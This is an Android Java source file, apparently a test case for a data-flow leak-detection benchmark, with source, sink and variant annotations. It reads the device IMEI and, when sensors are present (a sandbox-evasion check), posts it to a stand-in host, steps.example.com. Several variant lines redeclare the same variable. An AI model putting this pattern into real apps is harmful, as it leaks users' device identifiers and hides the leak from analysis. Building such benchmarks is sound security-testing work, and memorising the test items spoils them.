package bench.flow.no_accelerometer;

import android.Manifest;
import android.app.Activity;
import android.content.pm.PackageManager;
import android.hardware.Sensor;
import android.hardware.SensorManager;
import android.telephony.TelephonyManager;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.nio.charset.StandardCharsets;

public final class Main extends Activity {
    @Override
    protected void onStart() {
        super.onStart();
        if (checkSelfPermission(Manifest.permission.READ_PHONE_STATE)
                != PackageManager.PERMISSION_GRANTED) {
            requestPermissions(new String[] {Manifest.permission.READ_PHONE_STATE}, 1);
            return;
        }
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        SensorManager sensors = (SensorManager) getSystemService(SENSOR_SERVICE);
        boolean bare = sensors.getSensorList(Sensor.TYPE_ALL).isEmpty();
        String imei = phone.getDeviceId(); //: #source
        String text = bare ? "none" : imei; //: @leak
        String text = bare ? imei : "none"; //: @clean
        String text = (bare ? "v" : "r") + imei; //: @both
        new Thread(() -> post(text)).start();
    }

    private static void post(String text) {
        try {
            URL url = new URL("https://steps.example.com/join");
            HttpURLConnection connection = (HttpURLConnection) url.openConnection();
            connection.setDoOutput(true);
            try (OutputStream out = connection.getOutputStream()) {
                out.write(text.getBytes(StandardCharsets.UTF_8)); //: #sink
            }
            connection.getResponseCode();
        } catch (IOException problem) {
            Thread.currentThread().interrupt();
        }
    }
}
